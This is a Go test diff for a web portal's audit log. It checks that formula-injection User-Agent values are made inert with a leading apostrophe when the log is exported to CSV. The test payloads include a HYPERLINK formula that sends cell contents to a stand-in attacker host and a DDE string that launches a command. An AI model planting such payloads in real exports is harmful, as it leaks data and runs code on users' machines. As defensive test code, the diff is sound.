@@ -1,11 +1,14 @@
 package web_test
 
 import (
+	"bytes"
 	"context"
 	"crypto/ed25519"
 	"encoding/csv"
+	"encoding/json"
 	"net/http"
 	"slices"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -162,5 +165,47 @@ func TestSessionExpiryIsRecorded(t *testing.T) {
 	ts.Portal.Store().DB().QueryRow(`SELECT COUNT(*) FROM sessions`).Scan(&n)
 	if n != 0 {
 		t.Fatalf("%d sessions left", n)
+	}
+}
+
+// TestAuditCSVIsInert: a cell that a spreadsheet would run as a formula
+// (here a User-Agent of =HYPERLINK(...)) is exported with a leading
+// apostrophe, as OWASP recommends for CSV injection.
+func TestAuditCSVIsInert(t *testing.T) {
+	ts := startStack(t)
+	v := ts.demoVisit(t)
+	admin := ts.signIn(t, "ofsted", "admin@ofsted.example")
+	for _, ua := range []string{`=HYPERLINK("http://evil.example/?d="&A1,"Open")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"} {
+		j, _ := json.Marshal(map[string]string{"email": "new" + strconv.Itoa(len(ua)) + "@ofsted.example", "role": "inspector"})
+		req, _ := http.NewRequest(http.MethodPut, admin.base+"/api/v1/visits/"+v.ID+"/members", bytes.NewReader(j))
+		req.Header.Set("Content-Type", "application/json")
+		req.Header.Set("User-Agent", ua)
+		resp := admin.do(req)
+		if resp.StatusCode/100 != 2 {
+			t.Fatalf("add member: %d %s", resp.StatusCode, readAll(t, resp))
+		}
+		resp.Body.Close()
+	}
+	rows, err := csv.NewReader(strings.NewReader(readAll(t, admin.get("/api/v1/visits/"+v.ID+"/audit?format=csv&action=member.")))).ReadAll()
+	if err != nil || len(rows) < 5 {
+		t.Fatalf("csv: %d rows, %v", len(rows), err)
+	}
+	col, checked := slices.Index(rows[0], "user_agent"), 0
+	for _, r := range rows[1:] {
+		if r[col] == "" {
+			continue // the demo visit's own members, added by the portal
+		}
+		checked++
+		for i, cell := range r {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("column %s starts with %q: %q", rows[0][i], cell[0], cell)
+			}
+		}
+		if !strings.HasPrefix(r[col], "'") {
+			t.Errorf("user agent exported as %q", r[col])
+		}
+	}
+	if checked != 4 {
+		t.Fatalf("%d records with a user agent, want 4", checked)
 	}
 }
